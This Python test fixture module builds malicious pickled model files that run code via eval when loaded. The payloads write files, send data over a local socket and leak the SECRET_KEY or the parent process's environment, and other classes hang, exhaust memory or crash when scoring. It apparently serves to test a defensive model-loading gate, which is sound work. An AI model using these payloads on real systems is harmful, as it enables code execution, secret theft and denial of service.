"""Artifacts an attacker (or a careless author) could upload, pickled with joblib as a pipeline would.

Each one is self-contained: its ``__reduce__`` names only builtins (``eval``), so whatever process
unpickles it runs the payload without importing anything from the tests. ``Payload`` runs its code at
load time and then is the ``model`` it carries (the real estimator, so it would pass a gate);
``Hungry``, ``Sleepy``, ``Spinning`` and ``Crashing`` load fine and misbehave when asked to score.
"""

from __future__ import annotations

import io

import joblib


def dumped(obj) -> bytes:
    buffer = io.BytesIO()
    joblib.dump(obj, buffer)
    return buffer.getvalue()


class Payload:
    """Unpickles to ``model`` after evaluating ``code`` (an expression) with ``values`` as its names."""

    def __init__(self, code: str, model=None, **values):
        self.code, self.values = code, {"model": model, **values}

    def __reduce__(self):
        return eval, (f"({self.code}, model)[1]", dict(self.values))


def writes_file(path, model=None) -> Payload:
    return Payload("__import__('pathlib').Path(path).write_text('pwned')", model, path=str(path))


def connects(port: int, model=None) -> Payload:
    return Payload(
        "__import__('socket').create_connection(('127.0.0.1', port), timeout=2).sendall(b'pwned')", model, port=port
    )


def reads_secret(model=None) -> Payload:
    """Raises what it read: the SECRET_KEY in its environment, else the parent's environment."""
    return Payload(
        "(_ for _ in ()).throw(ValueError(__import__('os').environ.get('SECRET_KEY')"
        " or open(f'/proc/{__import__(\"os\").getppid()}/environ', 'rb').read()))",
        model,
    )


class ReturnsSecret:
    """Unpickles to a 'model' whose classes are the SECRET_KEY of its environment (None when unset),
    so describe() would hand the secret back to the parent."""

    def __reduce__(self):
        return eval, ("type('Leaky', (), {'classes_': [__import__('os').environ.get('SECRET_KEY'), 1]})()",)


def reads_file(path, model=None) -> Payload:
    return Payload("(_ for _ in ()).throw(ValueError(open(path, 'rb').read()))", model, path=str(path))


_MISBEHAVING = (
    "type('{name}', (), {{'classes_': [0, 1], 'predict_proba': lambda self, X: {body},"
    " 'predict': lambda self, X: {body}}})()"
)


class _Misbehaving:
    body = "None"

    def __reduce__(self):
        return eval, (_MISBEHAVING.format(name=type(self).__name__, body=self.body),)


class Hungry(_Misbehaving):
    """Allocates 4 GB when it scores."""

    body = "bytearray(4 * 1024 ** 3)"


class Sleepy(_Misbehaving):
    """Sleeps ten minutes when it scores."""

    body = "__import__('time').sleep(600)"


class Spinning(_Misbehaving):
    """Burns CPU for ever when it scores."""

    body = "sum(iter(int, 1))"


class Crashing(_Misbehaving):
    """Dies of a segmentation fault when it scores."""

    body = "__import__('faulthandler')._sigsegv()"
